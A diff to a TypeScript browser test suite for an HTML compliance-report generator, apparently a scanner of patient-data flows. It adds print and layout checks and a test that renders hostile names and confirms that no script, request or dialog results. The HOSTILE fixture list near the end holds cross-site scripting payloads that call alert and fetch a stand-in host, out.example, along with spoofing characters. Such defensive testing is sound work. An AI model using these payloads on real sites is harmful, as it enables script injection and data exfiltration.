@@ -21,6 +21,8 @@ const many = (): OutboundDestination[] => Array.from({ length: 20 }, (_, index) 
 const data = (): ReportData => ({
   version: "1.2.3", root: "/w", date: "2026-03-01", stats: STATS, checklist: CHECKLIST.map((item) => ({ ...item, acceptedRisk: true, attestation: { item: item.id, by: "Dana", date: "2026-02-01", evidence: "a.pdf" } })),
   findings: [finding(), finding({ severity: "warning" }), finding({ severity: "information" }), finding({ suppressed: { reason: "test data", by: "dana", until: "2027-01-01" } })],
+  previous: { version: 1, date: "2026-01-01", findings: [{ fingerprint: "gone", rule: "phi-in-url", message: "gone", place: "src/a.ts:1:1" }], checklist: CHECKLIST.map(({ id, title }) => ({ id, title, status: "pass" })), destinations: [{ id: "x", name: "X", baa: "signed" }] },
+  attestations: [{ item: "audit-logging", commit: "0123456789", author: "Dana", date: "2026-02-01T00:00:00Z", subject: "Reviewed", attestation: { item: "audit-logging", by: "Dana", date: "2026-02-01" } }],
   outbound: many(), inventory: [{ name: "Patient", place: { file: "/w/src/t.ts", range: range(1, 1) }, fields: [{ name: "ssn", place: { file: "/w/src/t.ts", range: range(2, 3) }, flowsTo: [] }] }],
 });
 
@@ -68,7 +70,7 @@ describe("report in a browser", function () {
   });
   after(() => browser?.close());
 
-  for (const [colorScheme, width] of [["light", 360], ["dark", 1280]] as const) {
+  for (const [colorScheme, width] of [["light", 1280], ["dark", 360], ["light", 360], ["dark", 1280]] as const) {
     it(`is accessible, ${colorScheme}, ${width} pixels wide`, async () => {
       await page.emulateMedia({ colorScheme });
       await page.setViewportSize({ width, height: 900 });
@@ -91,6 +93,7 @@ describe("report in a browser", function () {
     assert.deepEqual(meet, []);
     assert.deepEqual(boxes.filter(({ left, right, top, bottom }) => left < frame.left || right > frame.right || top < frame.top || bottom > frame.bottom).map(({ text }) => text), []);
     if (process.env.REPORT_SHOT) await page.locator("svg.map").screenshot({ path: process.env.REPORT_SHOT });
+    assert.equal(new Set(boxes.map(({ text }) => text).filter((text) => text.startsWith("area-"))).size, 13, "modules are named by what tells them apart");
   });
 
   it("is walked through by keyboard: the first key skips to the content", async () => {
@@ -101,4 +104,68 @@ describe("report in a browser", function () {
     await page.keyboard.press("Enter");
     assert.equal(await page.locator("details").first().getAttribute("open"), "");
   });
+
+  it("can be printed: what is folded away on the screen is on the paper, and nothing is coloured by the dark", async () => {
+    await page.emulateMedia({ colorScheme: "dark", media: "print" });
+    await page.setContent(renderReport(data(), "html"));
+    const { background, hidden } = await page.evaluate<{ background: string; hidden: number }>(`({
+      background: getComputedStyle(document.documentElement).getPropertyValue("--page").trim(),
+      hidden: [...document.querySelectorAll("details > *:not(summary)")].filter((one) => one.getBoundingClientRect().height === 0).length,
+    })`);
+    assert.equal(background, "#fff");
+    assert.equal(hidden, 0);
+    assert.ok((await page.pdf({ format: "A4" })).length > 10_000);
+    await page.emulateMedia({ media: "screen" });
+  });
+
+  for (const javaScriptEnabled of [true, false]) {
+    it(`shows hostile names and nothing else ${javaScriptEnabled ? "under its own policy" : "and all its tables without JavaScript"}`, async () => {
+      assert.ok(browser);
+      const context = await browser.newContext({ javaScriptEnabled, viewport: { width: 900, height: 700 } });
+      const asked: string[] = [];
+      await context.route("**/*", (route) => {
+        asked.push(route.request().url());
+        return route.abort();
+      });
+      const hostile = await context.newPage();
+      hostile.on("dialog", (dialog) => {
+        asked.push(dialog.message());
+        void dialog.dismiss();
+      });
+      for (const name of HOSTILE) {
+        await hostile.setContent(renderReport(named(name), "html"));
+        assert.match(await hostile.title(), /^PHI Lens report, /);
+        assert.equal(await hostile.locator("img, script, iframe, object, form, base, link, a:not([href^='#'])").count(), 0, name);
+        assert.ok((await hostile.locator("#inventory ~ .scroll tbody th").first().textContent())?.length));
+        assert.ok((await hostile.locator("#map ~ .scroll tbody tr").count()) > 0, "the map as a table");
+        const { width } = (await hostile.locator("main").boundingBox()) ?? { width: Infinity };
+        assert.ok(width <= 900, `${width} pixels wide for ${name.slice(0, 40)}`);
+        assert.ok(!(await hostile.locator("body").textContent())?.includes("\u202e"));
+      }
+      assert.deepEqual(asked, [], "no request and no dialog");
+      await context.close();
+    });
+  }
 });
+
+const RUNS = "document.title='ran';alert(1);fetch('https://out.example/')";
+/** Names that code, policies and commits could have. */
+const HOSTILE = [
+  `<img src="https://out.example/x.png" onerror="${RUNS}">`, `"><svg onload="${RUNS}">`, `</template></style></title><script>${RUNS}</script>`, `' onmouseover='${RUNS}' x='`,
+  `\u202egnp.exe\u2066 \u200fright to left`, "a".repeat(5000), "\u0000\u001b[31m \ufffe \ud800", `\`<b>\`]]>-->&amp;&lt;`, "url(https://out.example/y.css) @import 'https://out.example/z'", "<a href='javascript:alert(1)'>click</a><base href='https://out.example'>",
+];
+
+/** A report in which everything that is not ours is called so. */
+function named(name: string): ReportData {
+  const base = data();
+  const attestation = { item: name, by: name, date: name, evidence: name, note: name, nextReview: name };
+  return {
+    ...base, version: name,
+    findings: [finding({ message: name, file: `/w/${name}`, flow: [{ file: `/w/${name}`, range: range(1, 1), text: name }] }), finding({ message: name, suppressed: { reason: name, by: name, until: name } })],
+    checklist: base.checklist.map((item) => ({ ...item, title: name, summary: name, evidence: [{ text: name }], attestation, acceptedRisk: true })),
+    outbound: [{ id: name, name, kind: name, host: name, baa: "missing", allows: "operational", approved: false, certifications: [name], regions: [name], sites: [{ file: `/w/${name}/x.ts`, range: range(1, 1), level: "phi-direct", categories: ["ssn"], callee: name }] }],
+    inventory: [{ name, place: { file: "/w/a.ts", range: range(1, 1) }, fields: [{ name, place: { file: "/w/a.ts", range: range(1, 1) }, flowsTo: [name] }] }],
+    previous: { version: 1, date: "2026-01-01", findings: [{ fingerprint: name, rule: name, message: name, place: name }], checklist: base.checklist.map(({ id }) => ({ id, title: name, status: name })), destinations: [{ id: name, name, baa: name }] },
+    attestations: [{ item: name, attestation, commit: name, author: name, date: name, subject: name }],
+  };
+}
